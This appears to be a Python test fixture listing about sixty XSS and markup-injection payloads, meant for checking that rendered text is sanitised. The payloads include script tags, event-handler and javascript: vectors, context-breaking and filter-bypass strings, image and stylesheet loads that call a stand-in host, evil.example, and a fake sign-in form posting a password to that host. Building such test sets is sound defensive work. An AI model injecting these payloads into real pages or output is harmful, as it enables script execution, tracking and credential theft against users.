"""Texts that try to run, load or lead elsewhere: what a model, an article or a file name may hold.

Every address is on ``evil.example``; a script that runs sets ``window.owned``.
"""

from __future__ import annotations

_RUN = "window.owned=1"
_AT = "http://evil.example/x"

PAYLOADS = (
    # markdown that loads or leads away
    f"![a]({_AT}.png)",
    f"[a]({_AT})",
    f"[a][r]\n\n[r]: {_AT}",
    f"![a][r]\n\n[r]: {_AT}.png",
    f"<{_AT}>",
    f"[a](javascript:{_RUN})",
    f"[![a]({_AT}.png)]({_AT})",
    f"<a href='{_AT}'>sources</a>",
    # markup that loads by itself
    f"<img src={_AT}.png>",
    f"<img src=x onerror='{_RUN}'>",
    f"<video poster={_AT}.png></video>",
    f"<audio autoplay src={_AT}.mp3></audio>",
    f"<div style='background:url({_AT}.png)'>x</div>",
    f"<style>@import '{_AT}.css'; body{{background:url({_AT}.png)}}</style>",
    f"<link rel=stylesheet href={_AT}.css>",
    f"<link rel=prefetch href={_AT}>",
    f"<meta http-equiv=refresh content='0;url={_AT}'>",
    f"<base href={_AT}>",
    f"<iframe src={_AT}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data={_AT}></object>",
    f"<embed src={_AT}>",
    f"<svg><image href={_AT}.png /></svg>",
    f"<svg><a href='javascript:{_RUN}'><text y=20>x</text></a></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg onload='{_RUN}'>",
    f"<svg><animate onbegin='{_RUN}' attributeName=x dur=1s></svg>",
    f"<math><mtext><img src=x onerror='{_RUN}'></mtext></math>",
    f"<math href='javascript:{_RUN}'>x</math>",
    # markup that runs
    f"<script>{_RUN}</script>",
    f"<script src={_AT}.js></script>",
    f"<body onload='{_RUN}'>",
    f"<details open ontoggle='{_RUN}'>x</details>",
    f"<input autofocus onfocus='{_RUN}'>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
    f"<form action={_AT}><input name=password><button>Sign in</button></form>",
    f"<marquee onstart='{_RUN}'>x</marquee>",
    f"<select autofocus onfocus='{_RUN}'><option>x</select>",
    f"<template><img src=x onerror='{_RUN}'></template>",
    # what ends one context and begins another
    f"\"><img src=x onerror='{_RUN}'>",
    f"'><script>{_RUN}</script>",
    f"</article></div></bdi><img src=x onerror='{_RUN}'>",
    f"</title><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"```html\n<img src={_AT}.png>\n```",
    f"`<img src={_AT}.png>`",
    f"&lt;img src={_AT}.png onerror={_RUN}&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"| a |\n|---|\n| <img src={_AT}.png> |",
    f"\n\n<img src={_AT}.png>\n\n",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<img src=x onerror\x00='{_RUN}'>",
    f"${{{_RUN}}} {{{{{_RUN}}}}} {{% {_RUN} %}} #{{{_RUN}}}",
    f"$$\\href{{javascript:{_RUN}}}{{x}}$$ $$\\includegraphics{{{_AT}.png}}$$",
    f'```mermaid\ngraph TD; a-->b; click a href "{_AT}"\n```',
    f"<!--[if gte IE 4]><script>{_RUN}</script><![endif]-->",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<xss id=x tabindex=1 onfocus='{_RUN}'></xss>",
)
